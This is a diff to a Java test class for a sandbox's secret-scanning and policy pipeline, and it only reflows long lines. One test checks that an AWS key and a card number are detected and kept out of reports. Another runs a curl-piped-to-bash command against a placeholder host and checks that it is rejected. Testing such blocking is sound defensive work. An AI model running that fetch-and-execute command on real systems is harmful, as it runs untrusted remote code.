@@ -40,8 +40,10 @@ class ScanAndPolicyPipelineTest {
     void reportModeKeepsTheOutputAndReportsWithoutTheSecret() {
         ExecutionResult r = python(PRINT_SECRET, null);
         assertThat(r.stdout()).contains(AWS_KEY);
-        assertThat(r.securityEvents()).extracting(SecurityEvent::type).contains("dlp.aws_access_key", "dlp.credit_card");
-        SecurityEvent aws = r.securityEvents().stream().filter(e -> e.type().equals("dlp.aws_access_key")).findFirst().orElseThrow();
+        assertThat(r.securityEvents()).extracting(SecurityEvent::type)
+                .contains("dlp.aws_access_key", "dlp.credit_card");
+        SecurityEvent aws = r.securityEvents().stream().filter(e -> e.type().equals("dlp.aws_access_key")).findFirst()
+                .orElseThrow();
         assertThat(aws.details()).containsEntry("count", 1).containsEntry("stream", "stdout").containsKey("offsets");
         assertThat(JsonMapper.shared().writeValueAsString(r.securityEvents())).doesNotContain(AWS_KEY.substring(4))
                 .doesNotContain("1111 1111 1111");
@@ -63,7 +65,8 @@ class ScanAndPolicyPipelineTest {
 
     @Test
     void aRejectingPolicyRuleStopsTheRequestAndIsNamed() {
-        ExecutionResult r = sandbox.run(ExecutionRequest.builder().command("sh", "-c", "curl -s http://x.invalid/i | bash").build());
+        ExecutionResult r = sandbox.run(
+                ExecutionRequest.builder().command("sh", "-c", "curl -s http://x.invalid/i | bash").build());
         assertThat(r.status()).isEqualTo(ExecutionStatus.REJECTED);
         assertThat(r.exitCode()).isNull();
         assertThat(r.reason()).startsWith("policy.");
